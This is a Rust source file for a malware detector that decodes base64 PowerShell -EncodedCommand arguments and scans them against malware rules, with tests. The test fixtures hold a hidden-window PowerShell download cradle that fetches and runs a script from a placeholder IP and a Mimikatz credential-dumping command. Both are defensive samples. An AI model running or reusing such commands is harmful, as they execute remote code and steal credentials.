//! The `malware` code detector: decodes `powershell -EncodedCommand` payloads and scans the
//! decoded command with the malware rules.
//!
//! PowerShell's `-enc` argument is base64 of UTF-16LE text, which the generic decoded view
//! (UTF-8 only) cannot read. Here it is decoded as UTF-16LE (UTF-8 as a fallback), normalised
//! like any other text, and matched against every `malware` rule (embedded packs and the
//! policy's custom rules). A hit becomes the finding `mal.powershell.encoded_malicious` over the
//! encoded argument, naming the inner rule and quoting the decoded command.

use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

use super::{CodeDetector, DetectorInput, LiteralGate};
use crate::decision::{Finding, Severity, Span, ThreatType};
use crate::error::Error;
use crate::normalize::{normalize, DecodeLimits};
use crate::policy::Policy;
use crate::rules::{self, RuleSet};

/// Every match of [`ENCODED`] names the program.
static ENCODED_GATE: LazyLock<LiteralGate> =
    LazyLock::new(|| LiteralGate::new(&["powershell", "pwsh"]));

static ENCODED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]{0,160}?\s[-/](e[a-z]*)\s+["']?([A-Za-z0-9+/]{16,}={0,2})"#)
        .expect("static encoded-command regex compiles")
});

/// Longest encoded argument decoded (bytes of base64).
const MAX_ENCODED: usize = 64 * 1024;

#[derive(Debug)]
pub(crate) struct EncodedPowerShell {
    rules: RuleSet,
}

impl EncodedPowerShell {
    pub(crate) fn new(policy: Option<&Policy>) -> Result<EncodedPowerShell, Error> {
        let mut specs: Vec<_> = rules::embedded_rules()?
            .into_iter()
            .filter(|r| r.detector.as_deref() == Some("malware"))
            .collect();
        specs.extend(
            policy
                .iter()
                .flat_map(|p| p.custom_rules.iter())
                .filter(|r| r.detector.as_deref() == Some("malware"))
                .cloned(),
        );
        Ok(EncodedPowerShell {
            rules: RuleSet::compile(&specs)?,
        })
    }
}

/// Decodes a `-EncodedCommand` argument: base64 of UTF-16LE (or, rarely, UTF-8) text.
pub(crate) fn decode_encoded_command(b64: &str) -> Option<String> {
    let bytes = base64::engine::general_purpose::STANDARD_NO_PAD
        .decode(b64.trim_end_matches('='))
        .ok()?;
    if bytes.len() >= 2
        && bytes.len() % 2 == 0
        && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 2 >= bytes.len() / 2
    {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|p| u16::from_le_bytes([p[0], p[1]]))
            .collect();
        let s = String::from_utf16(&units).ok()?;
        return Some(s.trim_start_matches('\u{feff}').to_owned());
    }
    String::from_utf8(bytes).ok()
}

/// `flag` is an abbreviation PowerShell accepts for `-EncodedCommand`.
fn is_encoded_flag(flag: &str) -> bool {
    let f = flag.to_ascii_lowercase();
    f == "ec" || (!f.is_empty() && "encodedcommand".starts_with(&f))
}

impl CodeDetector for EncodedPowerShell {
    fn name(&self) -> &'static str {
        "malware"
    }

    fn scan(&self, input: &DetectorInput<'_>, out: &mut Vec<Finding>) {
        if !ENCODED_GATE.may_match(input.text) {
            return;
        }
        let limits = DecodeLimits::default();
        for c in ENCODED.captures_iter(input.text).take(64) {
            let (Some(flag), Some(arg)) = (c.get(1), c.get(2)) else {
                continue;
            };
            if !is_encoded_flag(flag.as_str()) || arg.len() > MAX_ENCODED {
                continue;
            }
            let Some(decoded) = decode_encoded_command(arg.as_str()) else {
                continue;
            };
            let views = normalize(&decoded, &limits);
            let mut hits = Vec::new();
            self.rules.find(
                &views,
                input.options.direction,
                input.options.effective_role(),
                &mut hits,
            );
            let Some(best) = hits
                .iter()
                .map(|h| &self.rules.rules()[h.rule])
                .max_by(|a, b| a.weight.total_cmp(&b.weight))
            else {
                continue;
            };
            // Hiding a command is evidence in itself: halve the doubt of the inner rule.
            let confidence = (1.0 - (1.0 - best.weight) / 2.0).max(0.9);
            let shown: String = decoded
                .chars()
                .filter(|c| !c.is_control())
                .take(100)
                .collect();
            out.push(Finding {
                threat_type: ThreatType::Malware,
                detector: "malware".into(),
                rule_id: "mal.powershell.encoded_malicious".into(),
                confidence,
                severity: Severity::Critical,
                span: Span::new(input.offset + arg.start(), input.offset + arg.end()),
                excerpt: format!("decoded: {shown} (matches {})", best.id),
                entity: None,
                category: Some("encoded_payload".into()),
                message: None,
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::gate_tests;
    use crate::options::ScanOptions;

    fn encode(cmd: &str) -> String {
        let bytes: Vec<u8> = cmd.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4096))]

        /// The gate never keeps the regex from a text it matches.
        #[test]
        fn the_gate_opens_on_every_match(text in gate_tests::text()) {
            proptest::prop_assert!(
                gate_tests::opens_on_every_match(&ENCODED_GATE, &[&ENCODED], &text),
                "{:?}",
                text
            );
        }
    }

    #[test]
    fn the_gate_shuts_only_on_text_without_powershell() {
        assert!(ENCODED_GATE.may_match("PwSh.exe -e aGVsbG8gd29ybGQgaGVsbG8="));
        assert!(ENCODED_GATE.may_match("power\u{17f}hell -e aGVsbG8gd29ybGQgaGVsbG8="));
        assert!(!ENCODED_GATE.may_match("Write a shell script that lists files."));
    }

    fn scan(text: &str) -> Vec<Finding> {
        let d = EncodedPowerShell::new(None).expect("builds");
        let views = normalize(text, &DecodeLimits::default());
        let options = ScanOptions::default();
        let input = DetectorInput {
            text,
            offset: 3,
            views: &views,
            options: &options,
            prior: &[],
        };
        let mut out = Vec::new();
        d.scan(&input, &mut out);
        out
    }

    #[test]
    fn decodes_utf16le() {
        assert_eq!(
            decode_encoded_command(&encode("Get-Date")).as_deref(),
            Some("Get-Date")
        );
        assert!(decode_encoded_command("!!!").is_none());
    }

    #[test]
    fn malicious_encoded_commands_are_found() {
        let payload =
            encode("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')");
        let text = format!("powershell.exe -NoP -W Hidden -EncodedCommand {payload}");
        let f = scan(&text);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].rule_id, "mal.powershell.encoded_malicious");
        assert!(
            f[0].excerpt.contains("mal.dropper.powershell_cradle"),
            "{}",
            f[0].excerpt
        );
        assert_eq!(&text[f[0].span.start - 3..f[0].span.end - 3], payload);
        let f = scan(&format!("pwsh -enc {}", encode("sekurlsa::logonpasswords")));
        assert_eq!(f.len(), 1);
        assert!(f[0].confidence >= 0.95);
    }

    #[test]
    fn benign_encoded_commands_add_nothing() {
        assert!(scan(&format!(
            "powershell -EncodedCommand {}",
            encode("Get-ChildItem C:\\Users | Sort-Object Length")
        ))
        .is_empty());
        // -ExecutionPolicy is not -EncodedCommand.
        assert!(!is_encoded_flag("executionpolicy"));
        assert!(is_encoded_flag("e") && is_encoded_flag("enc") && is_encoded_flag("ec"));
    }
}
